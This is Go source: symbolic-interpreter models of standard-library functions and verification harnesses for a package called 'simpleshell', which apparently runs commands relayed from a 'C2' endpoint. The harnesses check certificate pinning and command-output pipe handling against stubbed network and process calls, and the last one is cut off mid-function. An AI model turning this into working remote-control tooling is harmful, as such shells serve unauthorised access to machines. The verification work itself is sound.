	reg("internal/bytealg.IndexRabinKarp", idx)
	reg("internal/bytealg.Equal", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		a, b := in.bytesOf(c.args[0]), in.bytesOf(c.args[1])
		return done(in.valuesEqual(&StrV{B: a}, &StrV{B: b}))
	})
	reg("internal/bytealg.Compare", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(in.compareBytes(in.bytesOf(c.args[0]), in.bytesOf(c.args[1])))
	})
	reg("internal/bytealg.CompareString", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(in.compareBytes(in.bytesOf(c.args[0]), in.bytesOf(c.args[1])))
	})
	reg("internal/bytealg.MakeNoZero", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		n := in.concreteInt(c.args[0].(*Term), "MakeNoZero")
		return done(in.makeSlice(types.Typ[types.Uint8], n, n))
	})
	reg("internal/bytealg.LastIndexByte", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		b := in.bytesOf(c.args[0])
		for i := len(b) - 1; i >= 0; i-- {
			if in.branch(Eq(b[i], c.args[1].(*Term))) {
				return done(i64(i))
			}
		}
		return done(i64(-1))
	})
	reg("internal/bytealg.LastIndexByteString", intrinsics["internal/bytealg.LastIndexByte"])
	// strings/bytes shortcuts that avoid forking where a term suffices
	reg("bytes.Equal", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		a, b := in.bytesOf(c.args[0]), in.bytesOf(c.args[1])
		return done(in.valuesEqual(&StrV{B: a}, &StrV{B: b}))
	})
	reg("strings.Compare", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(in.compareBytes(in.bytesOf(c.args[0]), in.bytesOf(c.args[1])))
	})
	reg("bytes.Compare", intrinsics["strings.Compare"])
	reg("strings.HasPrefix", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		s, p := in.bytesOf(c.args[0]), in.bytesOf(c.args[1])
		if len(p) > len(s) {
			return done(FalseT)
		}
		return done(in.hasPrefixAt(s, 0, p))
	})
	reg("bytes.HasPrefix", intrinsics["strings.HasPrefix"])
	reg("strings.HasSuffix", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		s, p := in.bytesOf(c.args[0]), in.bytesOf(c.args[1])
		if len(p) > len(s) {
			return done(FalseT)
		}
		return done(in.hasPrefixAt(s, len(s)-len(p), p))
	})
	reg("bytes.HasSuffix", intrinsics["strings.HasSuffix"])
	reg("(*strings.Builder).copyCheck", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) { return done(nil) })
	reg("runtime.KeepAlive", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) { return done(nil) })
	reg("runtime.Gosched", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		if in.syncPoint(g) {
			return nil, irYield
		}
		return done(nil)
	})
	reg("internal/abi.NoEscape", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) { return done(c.args[0]) })
	reg("internal/abi.Escape", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) { return done(c.args[0]) })
	reg("testing.Testing", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) { return done(FalseT) })

	// ----- sync -----
	reg("(*sync.Mutex).Lock", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		if in.syncPoint(g) {
			return nil, irYield
		}
		m := in.mutexOf(c.args[0])
		if m.locked {
			in.block(g, "mutex", func() bool { return !m.locked })
			return nil, irBlocked
		}
		m.locked = true
		m.owner = g
		return done(nil)
	})
	reg("(*sync.Mutex).TryLock", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		if in.syncPoint(g) {
			return nil, irYield
		}
		m := in.mutexOf(c.args[0])
		if m.locked {
			return done(FalseT)
		}
		m.locked = true
		m.owner = g
		return done(TrueT)
	})
	reg("(*sync.Mutex).Unlock", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		m := in.mutexOf(c.args[0])
		if !m.locked {
			in.goPanic(g, &PanicV{Kind: "sync", Msg: "sync: unlock of unlocked mutex"})
			return nil, irPanic
		}
		m.locked = false
		m.owner = nil
		return done(nil)
	})
	reg("(*sync.RWMutex).Lock", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		if in.syncPoint(g) {
			return nil, irYield
		}
		m := in.mutexOf(c.args[0])
		if m.locked || m.readers > 0 {
			in.block(g, "rwmutex", func() bool { return !m.locked && m.readers == 0 })
			return nil, irBlocked
		}
		m.locked = true
		return done(nil)
	})
	reg("(*sync.RWMutex).Unlock", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		m := in.mutexOf(c.args[0])
		m.locked = false
		return done(nil)
	})
	reg("(*sync.RWMutex).RLock", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		if in.syncPoint(g) {
			return nil, irYield
		}
		m := in.mutexOf(c.args[0])
		if m.locked {
			in.block(g, "rwmutex(r)", func() bool { return !m.locked })
			return nil, irBlocked
		}
		m.readers++
		return done(nil)
	})
	reg("(*sync.RWMutex).RUnlock", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		m := in.mutexOf(c.args[0])
		m.readers--
		return done(nil)
	})
	reg("(*sync.WaitGroup).Add", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		w := in.wgOf(c.args[0])
		d := in.concreteInt(c.args[1].(*Term), "WaitGroup.Add")
		w.n += d
		if w.n < 0 {
			in.goPanic(g, &PanicV{Kind: "sync", Msg: "sync: negative WaitGroup counter"})
			return nil, irPanic
		}
		return done(nil)
	})
	reg("(*sync.WaitGroup).Done", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		w := in.wgOf(c.args[0])
		w.n--
		if w.n < 0 {
			in.goPanic(g, &PanicV{Kind: "sync", Msg: "sync: negative WaitGroup counter"})
			return nil, irPanic
		}
		return done(nil)
	})
	reg("(*sync.WaitGroup).Wait", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		if in.syncPoint(g) {
			return nil, irYield
		}
		w := in.wgOf(c.args[0])
		if w.n > 0 {
			in.block(g, "waitgroup", func() bool { return w.n == 0 })
			return nil, irBlocked
		}
		return done(nil)
	})
	reg("(*sync.Once).Do", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		o := in.onceOf(c.args[0])
		if o.done {
			return done(nil)
		}
		if o.running {
			in.block(g, "once", func() bool { return o.done })
			return nil, irBlocked
		}
		o.running = true
		f := c.args[1].(*FuncV)
		if f.Fn == nil {
			in.callSync(g, f, nil)
			o.done = true
			return done(nil)
		}
		fr := in.pushFrame(g, f.Fn, nil, f.Free)
		fr.onRet = func(v Value) {
			o.done = true
			c.fr.pc++
		}
		return nil, irPushed
	})

	// ----- sync/atomic (typed) -----
	for _, tn := range []string{"Int32", "Int64", "Uint32", "Uint64", "Bool", "Uintptr"} {
		tn := tn
		reg("(*sync/atomic."+tn+").Load", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
			return done(in.loadLeaf(atomicCell(c.args[0])))
		})
		reg("(*sync/atomic."+tn+").Store", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
			cell := atomicCell(c.args[0])
			v := c.args[1]
			if tn == "Bool" {
				v = Ite(v.(*Term), Const(32, 1), Const(32, 0))
			}
			in.storeLeaf(cell, v)
			return done(nil)
		})
		reg("(*sync/atomic."+tn+").Add", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
			cell := atomicCell(c.args[0])
			nv := BinBV("bvadd", in.loadLeaf(cell).(*Term), c.args[1].(*Term))
			in.storeLeaf(cell, nv)
			return done(nv)
		})
		reg("(*sync/atomic."+tn+").CompareAndSwap", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
			cell := atomicCell(c.args[0])
			cur := in.loadLeaf(cell).(*Term)
			if in.branch(Eq(cur, c.args[1].(*Term))) {
				in.storeLeaf(cell, c.args[2])
				return done(TrueT)
			}
			return done(FalseT)
		})
	}
	reg("(*sync/atomic.Bool).Load", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(Not(Eq(in.loadLeaf(atomicCell(c.args[0])).(*Term), Const(32, 0))))
	})
	for _, w := range []string{"Int32", "Int64", "Uint32", "Uint64"} {
		reg("sync/atomic.Load"+w, func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
			return done(in.load(c.args[0].(*PtrV).C))
		})
		reg("sync/atomic.Store"+w, func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
			in.store(c.args[0].(*PtrV).C, c.args[1])
			return done(nil)
		})
		reg("sync/atomic.Add"+w, func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
			cell := c.args[0].(*PtrV).C
			nv := BinBV("bvadd", in.load(cell).(*Term), c.args[1].(*Term))
			in.store(cell, nv)
			return done(nv)
		})
		reg("sync/atomic.CompareAndSwap"+w, func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
			cell := c.args[0].(*PtrV).C
			if in.branch(Eq(in.load(cell).(*Term), c.args[1].(*Term))) {
				in.store(cell, c.args[2])
				return done(TrueT)
			}
			return done(FalseT)
		})
	}

	// ----- errors -----
	reg("errors.Is", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(BoolC(in.errorsIs(g, c.args[0].(*IfaceV), c.args[1].(*IfaceV), 0)))
	})
	reg("errors.As", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(BoolC(in.errorsAs(g, c.args[0].(*IfaceV), c.args[1].(*IfaceV))))
	})
	reg("errors.Unwrap", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		e := c.args[0].(*IfaceV)
		if e.T == nil {
			return done(&IfaceV{})
		}
		if in.hasMethod(e.T, "Unwrap") {
			if v, ok := in.callMethodSync(g, e, "Unwrap"); ok {
				if iv, isI := v.(*IfaceV); isI {
					return done(iv)
				}
			}
		}
		return done(&IfaceV{})
	})
}

type mutexState struct {
	locked  bool
	owner   *Goroutine
	readers int
}
type wgState struct{ n int }
type onceState struct{ done, running bool }

func (in *Interp) sideKey(v Value) string {
	p := v.(*PtrV)
	if p.C == nil {
		panic(engineErr("nil sync object"))
	}
	return fmt.Sprintf("c%p", p.C)
}

func (in *Interp) mutexOf(v Value) *mutexState {
	k := "mu:" + in.sideKey(v)
	if m, ok := in.natives[k]; ok {
		return m.(*mutexState)
	}
	m := &mutexState{}
	in.natives[k] = m
	return m
}

func (in *Interp) wgOf(v Value) *wgState {
	k := "wg:" + in.sideKey(v)
	if m, ok := in.natives[k]; ok {
		return m.(*wgState)
	}
	m := &wgState{}
	in.natives[k] = m
	return m
}

func (in *Interp) onceOf(v Value) *onceState {
	k := "once:" + in.sideKey(v)
	if m, ok := in.natives[k]; ok {
		return m.(*onceState)
	}
	m := &onceState{}
	in.natives[k] = m
	return m
}

// atomicCell finds the scalar "v" field of an atomic.IntNN value.
func atomicCell(v Value) *Cell {
	c := v.(*PtrV).C
	for c.Kids != nil {
		c = c.Kids[len(c.Kids)-1]
	}
	return c
}

func (in *Interp) hasMethod(t types.Type, name string) bool {
	ms := in.w.prog.MethodSets.MethodSet(t)
	for i := 0; i < ms.Len(); i++ {
		if ms.At(i).Obj().Name() == name {
			return true
		}
	}
	return false
}

func (in *Interp) errorsIs(g *Goroutine, err, target *IfaceV, depth int) bool {
	if depth > 20 {
		in.inconclusive("errors.Is chain too deep")
	}
	if err.T == nil || target.T == nil {
		return err.T == nil && target.T == nil
	}
	if types.Identical(err.T, target.T) && types.Comparable(target.T) {
		if in.branch(in.valuesEqual(err.V, target.V)) {
			return true
		}
	}
	if in.hasMethod(err.T, "Is") {
		if v, ok := in.callMethodSync(g, err, "Is", target); ok {
			if in.branch(v.(*Term)) {
				return true
			}
		}
	}
	if in.hasMethod(err.T, "Unwrap") {
		v, ok := in.callMethodSync(g, err, "Unwrap")
		if ok {
			switch u := v.(type) {
			case *IfaceV:
				if u.T == nil {
					return false
				}
				return in.errorsIs(g, u, target, depth+1)
			case *SliceV:
				for i := 0; i < u.Len; i++ {
					e := in.load(u.Cells[i]).(*IfaceV)
					if in.errorsIs(g, e, target, depth+1) {
						return true
					}
				}
			}
		}
	}
	return false
}

func (in *Interp) errorsAs(g *Goroutine, err, target *IfaceV) bool {
	if target.T == nil {
		in.goPanic(g, &PanicV{Kind: "explicit", Msg: "errors: target cannot be nil"})
		return false
	}
	pt, ok := target.T.(*types.Pointer)
	if !ok {
		panic(engineErr("errors.As target not a pointer"))
	}
	tt := pt.Elem()
	cell := target.V.(*PtrV).C
	for depth := 0; err.T != nil && depth < 20; depth++ {
		if ti, isI := tt.Underlying().(*types.Interface); isI {
			if types.Implements(err.T, ti) {
				in.store(cell, err)
				return true
			}
		} else if types.Identical(err.T, tt) {
			in.store(cell, err.V)
			return true
		}
		if !in.hasMethod(err.T, "Unwrap") {
			return false
		}
		v, ok := in.callMethodSync(g, err, "Unwrap")
		if !ok {
			return false
		}
		u, isI := v.(*IfaceV)
		if !isI {
			return false
		}
		err = u
	}
	return false
}

func concreteStr(v Value, what string) string {
	s, ok := v.(*StrV).Concrete()
	if !ok {
		panic(engineErr("symbolic string where concrete needed: " + what))
	}
	return s
}

var _ = strings.TrimSpace

func init() {
	reg("crypto/rand.Read", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		s := c.args[0].(*SliceV)
		if in.choose(2, "rand.Read") == 1 {
			return done(tuple(i64(0), in.newErrorString(strConst("entropy source failed"))))
		}
		for i := 0; i < s.Len; i++ {
			in.storeLeaf(s.Cells[i], in.freshVar("rnd", 8))
		}
		return done(tuple(i64(s.Len), &IfaceV{}))
	})
}

func init() {
	// strings.ReplaceAll with single-byte old and new: exact byte-wise model, no forks.
	reg("strings.ReplaceAll", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		s, o, n := c.args[0].(*StrV), c.args[1].(*StrV), c.args[2].(*StrV)
		if len(o.B) == 1 && len(n.B) == 1 {
			out := &StrV{B: make([]*Term, len(s.B))}
			for i, b := range s.B {
				out.B[i] = Ite(Eq(b, o.B[0]), n.B[0], b)
			}
			return done(out)
		}
		// general case: run the real code
		fr := in.pushFrame(g, c.fn, c.args, nil)
		if c.instr != nil {
			fr.call, _ = c.instr.(ssa.Value)
		}
		return nil, irPushed
	})
}

func init() {
	// sync.Pool: Get returns either a fresh value from New or ANY value put back earlier (both are
	// legal behaviours of the pool; the choice is explored), Put remembers the value.
	reg("(*sync.Pool).Get", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		p := c.args[0].(*PtrV)
		if p.C == nil {
			in.goPanic(g, &PanicV{Kind: "nil", Msg: "nil *sync.Pool"})
			return nil, irPanic
		}
		k := fmt.Sprintf("pool:%p", p.C)
		var items []Value
		if v, ok := in.natives[k]; ok {
			items = v.([]Value)
		}
		if len(items) > 0 && in.mergeDepth == 0 {
			if ch := in.choose(len(items)+1, "pool.Get"); ch > 0 {
				it := items[ch-1]
				in.natives[k] = append(append([]Value(nil), items[:ch-1]...), items[ch:]...)
				return done(it)
			}
		}
		// field "New func() any" is the last field of sync.Pool
		nf, _ := in.load(p.C.Kids[len(p.C.Kids)-1]).(*FuncV)
		if isNilFunc(nf) {
			return done(&IfaceV{})
		}
		return done(in.callSync(g, nf, nil))
	})
	reg("(*sync.Pool).Put", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		p := c.args[0].(*PtrV)
		if p.C != nil {
			k := fmt.Sprintf("pool:%p", p.C)
			var items []Value
			if v, ok := in.natives[k]; ok {
				items = v.([]Value)
			}
			if len(items) < 4 {
				in.natives[k] = append(append([]Value(nil), items...), c.args[1])
			}
		}
		return done(nil)
	})
}
