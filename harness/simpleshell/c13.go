package simpleshell

// Harnesses for C13: simpleshell talks only to the pinned key, and the pin is per connection.
//
// Cryptography is replaced by stubs with the documented contracts: base64 decoding returns an
// arbitrary byte vector of a chosen length or an error; MarshalPKIXPublicKey returns opaque
// bytes or an error; sha256.Sum256 returns 32 arbitrary bytes per certificate.  The solver
// then decides, for ALL values of the wanted fingerprint and of every certificate hash, that
// the verifier accepts exactly when some chain position matches in all 32 bytes.

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"errors"
	"io"
	"net/http"
	"sync"
)

//verif:stub (*encoding/base64.Encoding).DecodeString stubB64Decode
//verif:stub crypto/x509.MarshalPKIXPublicKey stubMarshalPKIX
//verif:stub crypto/sha256.Sum256 stubSum256
//verif:stub (*net/http.Transport).Clone stubTransportClone
//verif:stub (*net/http.Client).Post stubClientPost
//verif:stub crypto/tls.NewLRUClientSessionCache stubSessionCache
//verif:stub (*sync.Map).Load stubSyncMapLoad
//verif:stub (*sync.Map).Store stubSyncMapStore
//verif:stub (*sync.Map).LoadOrStore stubSyncMapLoadOrStore

var (
	stubDecodeLen  int  // length of the decoded fingerprint
	stubDecodeFail bool // decoding reports an error
	stubDecodeArg  string
	stubWant       []byte
	stubMarshalBad int // index of the certificate whose key cannot be marshalled (-1: none)
	stubCertN      int
	stubHashes     [][32]byte
	stubHashN      int
	stubFixedFP    bool // harness B: decode recognises the constant test fingerprint only
	postClient     *http.Client
	postCalls      int
)

func stubB64Decode(enc *base64.Encoding, s string) ([]byte, error) {
	stubDecodeArg = s
	if stubFixedFP {
		if s == zeroFP {
			return make([]byte, 32), nil
		}
		if s == oneFP {
			b := make([]byte, 32)
			for i := range b {
				b[i] = 1
			}
			return b, nil
		}
		return nil, errors.New("illegal base64 data")
	}
	if stubDecodeFail {
		return nil, errors.New("illegal base64 data")
	}
	stubWant = nondetBytes(stubDecodeLen, 0)
	return stubWant, nil
}

func stubMarshalPKIX(pub any) ([]byte, error) {
	i := stubCertN
	stubCertN++
	if i == stubMarshalBad {
		return nil, errors.New("unsupported key")
	}
	return []byte{byte(i)}, nil
}

func stubSum256(b []byte) [32]byte {
	var h [32]byte
	src := nondetBytes(32, 0)
	copy(h[:], src)
	stubHashes = append(stubHashes, h)
	stubHashN++
	return h
}

type nullSessionCache struct{}

func (nullSessionCache) Get(k string) (*tls.ClientSessionState, bool) { return nil, false }
func (nullSessionCache) Put(k string, s *tls.ClientSessionState)      {}
func stubSessionCache(n int) tls.ClientSessionCache                   { return nullSessionCache{} }

func stubTransportClone(t *http.Transport) *http.Transport { return &http.Transport{} }

func stubClientPost(c *http.Client, url, contentType string, body io.Reader) (*http.Response, error) {
	postClient = c
	postCalls++
	return nil, errors.New("stub: connection refused")
}

// sync.Map by its documented contract (sequential use): an association list per map.
type smEntry struct {
	m    *sync.Map
	k, v any
}

var smEntries []smEntry

func stubSyncMapLoad(m *sync.Map, key any) (any, bool) {
	for _, e := range smEntries {
		if e.m == m && e.k == key {
			return e.v, true
		}
	}
	return nil, false
}

func stubSyncMapStore(m *sync.Map, key, value any) {
	for i := range smEntries {
		if smEntries[i].m == m && smEntries[i].k == key {
			smEntries[i].v = value
			return
		}
	}
	smEntries = append(smEntries, smEntry{m, key, value})
}

func stubSyncMapLoadOrStore(m *sync.Map, key, value any) (any, bool) {
	if v, ok := stubSyncMapLoad(m, key); ok {
		return v, true
	}
	smEntries = append(smEntries, smEntry{m, key, value})
	return value, false
}

// oneFP: 32 bytes of 0x01
const oneFP = "AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE="

const zeroFP = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="

// HarnessC13Verifier: constructor and verifier decisions for all byte values.
func HarnessC13Verifier() {
	chain := verifParam("chain")
	stubDecodeLen = []int{0, 31, 32, 33}[nondetChoice(4)]
	stubDecodeFail = nondetBool()
	prefix := nondetBool()
	body := "Zm9v" // opaque to the stubbed decoder
	fp := body
	if prefix {
		fp = "sha256//" + body
	}
	stubMarshalBad = nondetChoice(chain+1) - 1
	vf, err := TLSFingerprintVerifier(fp)
	verifAssert(stubDecodeArg == body, "C13.prefix-optional")
	okCtor := !stubDecodeFail && stubDecodeLen == 32
	verifAssert((err == nil) == okCtor, "C13.malformed-fingerprint-refused")
	verifAssert((vf != nil) == okCtor, "C13.verifier-iff-wellformed")
	if !okCtor {
		verifReach("C13.ctor-refused")
		return
	}
	// every other attribute of the connection is arbitrary: the decision may depend on the chain only
	cs := tls.ConnectionState{DidResume: nondetBool(), HandshakeComplete: nondetBool(), Version: uint16(nondetUint32()), NegotiatedProtocol: nondetString(1), ServerName: nondetString(1)}
	for i := 0; i < chain; i++ {
		cs.PeerCertificates = append(cs.PeerCertificates, &x509.Certificate{})
	}
	verr := vf(cs)
	// oracle: accept iff some position i, before any marshalling failure, matches in all 32 bytes
	accept := false
	for i := 0; i < chain && i < len(stubHashes); i++ {
		if i == stubMarshalBad {
			break
		}
		same := true
		for j := 0; j < 32; j++ {
			if stubHashes[i][j] != stubWant[j] {
				same = false
			}
		}
		if same {
			accept = true
			break
		}
	}
	if verifCanary() {
		accept = accept || chain > 0
	}
	verifAssert((verr == nil) == accept, "C13.accept-iff-some-cert-matches-all-32-bytes")
	if verr != nil && !(stubMarshalBad >= 0 && stubMarshalBad < chain) {
		verifAssert(errors.Is(verr, ErrNoMatchingCertificate), "C13.refusal-is-no-matching-certificate")
	}
	if verr == nil {
		verifReach("C13.accepted")
	} else {
		verifReach("C13.refused")
	}
}

type nullShell struct{}

func (nullShell) SetInput(in io.Reader)        {}
func (nullShell) Output() io.ReadCloser        { return io.NopCloser(nullReader{}) }
func (nullShell) Go(ctx context.Context) error { return nil }
func (nullShell) String() string               { return "nullshell" }

type nullReader struct{}

func (nullReader) Read(p []byte) (int, error) { return 0, io.EOF }

// bypassWithoutPin: the client's TLS configuration switches ordinary validation off without
// carrying the fingerprint check itself.  Every handshake made with that configuration (also the
// one after a proxy's CONNECT) would then be unpinned.
func bypassWithoutPin(c *http.Client) bool {
	if c == nil || c.Transport == nil {
		return false
	}
	t, ok := c.Transport.(*http.Transport)
	if !ok || t.TLSClientConfig == nil {
		return false
	}
	return t.TLSClientConfig.InsecureSkipVerify && t.TLSClientConfig.VerifyConnection == nil
}

func transportPinned(c *http.Client) bool {
	if c == nil || c.Transport == nil {
		return false
	}
	t, ok := c.Transport.(*http.Transport)
	if !ok || t.TLSClientConfig == nil {
		return false
	}
	return t.TLSClientConfig.InsecureSkipVerify || t.TLSClientConfig.VerifyConnection != nil
}

// HarnessC13Go: two successive Go calls with configurations drawn from {no pin, pin,
// malformed pin}: the process-wide default client and transport are left untouched, a
// malformed pin sends nothing, and an un-pinned call never uses a client that skips
// certificate validation.
func HarnessC13Go() {
	stubFixedFP = true
	stubMarshalBad = -1
	c2 := "http://127.0.0.1:1/io"
	dcBefore := *http.DefaultClient
	dtBefore, _ := http.DefaultTransport.(*http.Transport)
	var tlsBefore *tls.Config
	if dtBefore != nil {
		tlsBefore = dtBefore.TLSClientConfig
	}
	for call := 0; call < 2; call++ {
		kind := nondetChoice(5)
		conf := ConnConfig{C2: c2}
		switch kind {
		case 1:
			conf.Fingerprint = "sha256//" + zeroFP
			if call == 1 {
				conf.Fingerprint = "sha256//" + oneFP // a different pin for the second call
			}
		case 2:
			conf.Fingerprint = "not-base64!"
		case 3:
			conf.Fingerprint = "sha256//" // the prefix alone (e.g. "sha256//$UNSET"): malformed, not "no pin"
			kind = 2
		case 4:
			conf.Fingerprint = zeroFP // without the prefix
			kind = 1
		}
		before := postCalls
		postClient = nil
		err := Go(context.Background(), conf, nullShell{})
		if kind == 2 {
			verifAssert(err != nil, "C13.go.malformed-pin-is-error")
		}
		// observations made through the Post stub have no native counterpart: only in stub mode
		if verifParam("stubobs") == 1 && kind == 2 {
			verifAssert(postCalls == before, "C13.go.malformed-pin-sends-nothing")
		}
		if verifParam("stubobs") == 1 && postClient != nil {
			verifAssert(!bypassWithoutPin(postClient), "C13.go.validation-never-bypassed-without-the-pin-in-the-same-config")
			if kind == 0 {
				verifAssert(!transportPinned(postClient), "C13.go.unpinned-call-keeps-ordinary-validation")
			}
			if kind == 1 {
				verifAssert(transportPinned(postClient), "C13.go.pinned-call-uses-verifier")
				// the verifier in force for THIS call decides by THIS call's pin, whatever earlier calls used
				if t, ok := postClient.Transport.(*http.Transport); ok && t.TLSClientConfig != nil && t.TLSClientConfig.VerifyConnection != nil {
					var pinByte byte
					if conf.Fingerprint == "sha256//"+oneFP {
						pinByte = 1
					}
					n0 := len(stubHashes)
					stubCertN = 0
					verr := t.TLSClientConfig.VerifyConnection(tls.ConnectionState{PeerCertificates: []*x509.Certificate{{}}})
					if len(stubHashes) == n0+1 {
						same := true
						for j := 0; j < 32; j++ {
							if stubHashes[n0][j] != pinByte {
								same = false
							}
						}
						verifAssert((verr == nil) == same, "C13.go.call-verifies-against-its-own-pin")
					}
				}
			}
		}
		// process-wide defaults untouched
		pass := http.DefaultClient.Transport == dcBefore.Transport && http.DefaultClient.Jar == dcBefore.Jar && http.DefaultClient.Timeout == dcBefore.Timeout
		if verifCanary() {
			pass = pass && kind != 0
		}
		verifAssert(pass, "C13.go.default-client-untouched")
		if dt, ok := http.DefaultTransport.(*http.Transport); ok {
			// (net/http itself may lazily allocate a TLS config on first use; what matters is
			// that no pin and no validation bypass was planted in the shared transport)
			clean := dt.TLSClientConfig == tlsBefore || (!dt.TLSClientConfig.InsecureSkipVerify && dt.TLSClientConfig.VerifyConnection == nil)
			verifAssert(clean, "C13.go.default-transport-untouched")
		}
	}
	verifReach("C13.go.end")
}
