package simpleshell

// Harness for C14 (ordering contract only): CmdShell.Go must not let os/exec's Wait close the
// command's output pipes before everything the command wrote has been copied to the shell's
// output stream.  os/exec and the kernel are replaced by a stub that states the documented
// contract: StdoutPipe/StderrPipe readers deliver what the child wrote, then EOF once the
// child has exited; (*exec.Cmd).Wait (and Run = Start + Wait) returns after the child has
// exited and CLOSES both read ends, after which unread data is lost and Read fails ("it is
// incorrect to call Wait before all reads from the pipe have completed").  The child is an
// actor writing symbolic chunks to both descriptors and exiting; the consumer reads the
// shell's output stream at arbitrary scheduling points.

import (
	"context"
	"errors"
	"io"
	"os/exec"
)

//verif:stub (*os/exec.Cmd).Run stubCmdRun
//verif:stub (*os/exec.Cmd).Start stubCmdStart
//verif:stub (*os/exec.Cmd).Wait stubCmdWait
//verif:stub (*os/exec.Cmd).String stubCmdString
//verif:stub (*os/exec.Cmd).StdoutPipe stubStdoutPipe
//verif:stub (*os/exec.Cmd).StderrPipe stubStderrPipe
//verif:stub (*os/exec.Cmd).StdinPipe stubStdinPipe

type childPipe struct {
	ch        chan []byte // kernel pipe buffer: chunks written and not yet read
	waitClose *bool       // set when exec's Wait has closed the parent's read end
	rest      []byte
	closed    bool
}

var errPipeClosed = errors.New("read |0: file already closed")

func (p *childPipe) Read(b []byte) (int, error) {
	verifYield()
	if *p.waitClose || p.closed {
		return 0, errPipeClosed
	}
	if len(p.rest) == 0 {
		chunk, ok := <-p.ch
		if *p.waitClose {
			return 0, errPipeClosed // Wait closed the descriptor while we were blocked
		}
		if !ok {
			return 0, io.EOF
		}
		p.rest = chunk
	}
	n := copy(b, p.rest)
	p.rest = p.rest[n:]
	return n, nil
}
func (p *childPipe) Close() error { p.closed = true; return nil }

var (
	c14Out, c14Err *childPipe
	c14WaitClosed  bool
	c14ChildDone   chan struct{}
	c14ExitErr     error
	c14OutData     [][]byte
	c14ErrData     [][]byte
	c14Started     bool
	c14OutPiped    bool
	c14ErrPiped    bool
	c14Copiers     []chan struct{}
	c14Cat         bool
)

// StdoutPipe / StderrPipe: the read ends of the child's output pipes.
func stubStdoutPipe(c *exec.Cmd) (io.ReadCloser, error) { c14OutPiped = true; return c14Out, nil }
func stubStderrPipe(c *exec.Cmd) (io.ReadCloser, error) { c14ErrPiped = true; return c14Err, nil }

// ---- the command's standard input ----
//
// The child's stdin is a pipe: what is written to it is what the child can read; closing it is
// the child's end-of-input.  With cmd.Stdin set to a reader os/exec itself copies (io.Copy:
// bytes returned together with an error are written before the error is looked at) in a
// goroutine that Wait joins; with StdinPipe the program writes and closes it itself.
type childStdin struct{ closed bool }

var (
	c14In      *childStdin
	c14InGot   []byte
	c14InEOF   chan struct{}
	c14InPiped bool
	c14Exited  bool
)

func (w *childStdin) Write(b []byte) (int, error) {
	verifYield()
	if w.closed || c14Exited {
		return 0, errPipeClosed
	}
	c14InGot = append(c14InGot, b...)
	return len(b), nil
}
func (w *childStdin) Close() error {
	if !w.closed {
		w.closed = true
		close(c14InEOF)
	}
	return nil
}
func stubStdinPipe(c *exec.Cmd) (io.WriteCloser, error) { c14InPiped = true; return c14In, nil }

func execCopyIn(src io.Reader, dst *childStdin, done chan struct{}) {
	verifActor()
	buf := make([]byte, 4)
	for {
		n, err := src.Read(buf)
		if n > 0 {
			if _, werr := dst.Write(buf[:n]); werr != nil {
				break
			}
		}
		if err != nil {
			break
		}
	}
	dst.Close()
	close(done)
}

// inReader: the shell's input stream: chunks of symbolic bytes; the last chunk may come
// together with the end-of-stream error (as HTTP bodies do) or before it.
type inReader struct {
	chunks  [][]byte
	withEOF bool
}

func (r *inReader) Read(b []byte) (int, error) {
	verifYield()
	if len(r.chunks) == 0 {
		return 0, io.EOF
	}
	n := copy(b, r.chunks[0])
	r.chunks = r.chunks[1:]
	if len(r.chunks) == 0 && r.withEOF {
		return n, io.EOF
	}
	return n, nil
}

// execCopy is what os/exec does for a descriptor that was given an io.Writer instead of a pipe:
// a goroutine of its own copies the child's output into the writer; Wait joins it.
func execCopy(dst io.Writer, src *childPipe, done chan struct{}) {
	verifActor()
	for {
		chunk, ok := <-src.ch
		if !ok {
			break
		}
		if _, err := dst.Write(chunk); err != nil {
			break // the writer refuses: the rest of the child's output on this descriptor is lost
		}
	}
	close(done)
}

func stubCmdStart(c *exec.Cmd) error {
	c14Started = true
	c14Copiers = nil
	if !c14OutPiped && c.Stdout != nil {
		d := make(chan struct{})
